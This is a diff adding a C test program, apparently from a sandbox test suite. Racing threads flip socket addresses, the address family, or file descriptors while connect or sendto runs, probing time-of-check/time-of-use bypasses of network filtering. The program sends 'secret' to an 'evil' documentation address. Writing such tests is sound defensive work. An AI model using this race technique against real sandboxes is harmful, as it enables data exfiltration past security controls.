@@ -1,0 +1,82 @@
+/* One thread connects or sends, another changes what the first one points to. */
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <unistd.h>
+
+static union {
+    struct sockaddr any;
+    struct sockaddr_in in;
+    struct sockaddr_un un;
+} address, good, evil, unix_address;
+static volatile int ended;
+static int target = 100, sources[2];
+static const char *how;
+
+static void flip_memory(const void *one, const void *other, size_t length)
+{
+    while (!ended) {
+        memcpy((void *)&address, one, length);
+        __asm__ volatile("" ::: "memory");
+        memcpy((void *)&address, other, length);
+        __asm__ volatile("" ::: "memory");
+    }
+}
+
+static void *flip(void *unused)
+{
+    if (!strcmp(how, "address"))
+        flip_memory(&good, &evil, sizeof good.in);
+    else if (!strcmp(how, "family"))
+        flip_memory(&unix_address, &evil, sizeof good.in);
+    else
+        while (!ended) {
+            dup2(sources[0], target);
+            dup2(sources[1], target);
+        }
+    return unused;
+}
+
+static void fill(struct sockaddr_in *in, const char *text)
+{
+    in->sin_family = AF_INET;
+    in->sin_port = htons(443);
+    inet_pton(AF_INET, text, &in->sin_addr);
+}
+
+int main(int argc, char **argv)
+{
+    int attempts = argc > 2 ? atoi(argv[2]) : 0, datagrams = !strcmp(argv[1], "datagram");
+    int flips_descriptors = datagrams || !strcmp(argv[1], "descriptor");
+    pthread_t thread;
+
+    how = argv[1];
+    fill(&good.in, "203.0.113.7");
+    fill(&evil.in, "198.51.100.66");
+    unix_address.un.sun_family = AF_UNIX;
+    strcpy(unix_address.un.sun_path, "/nowhere/at/all");
+    address = flips_descriptors ? evil : good;
+    sources[0] = socket(AF_UNIX, datagrams ? SOCK_DGRAM : SOCK_STREAM, 0);
+    sources[1] = socket(AF_INET, datagrams ? SOCK_DGRAM : SOCK_STREAM, 0);
+    pthread_create(&thread, NULL, flip, NULL);
+    for (int i = 0; i < attempts; i++) {
+        if (datagrams) {
+            sendto(target, "secret", 6, MSG_NOSIGNAL | MSG_DONTWAIT, &evil.any, sizeof evil.in);
+        } else if (flips_descriptors) {
+            connect(target, &evil.any, sizeof evil.in);
+        } else {
+            int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+            connect(fd, &address.any, sizeof address.in);
+            close(fd);
+        }
+    }
+    ended = 1;
+    pthread_join(thread, NULL);
+    printf("%d attempts\n", attempts);
+    return 0;
+}
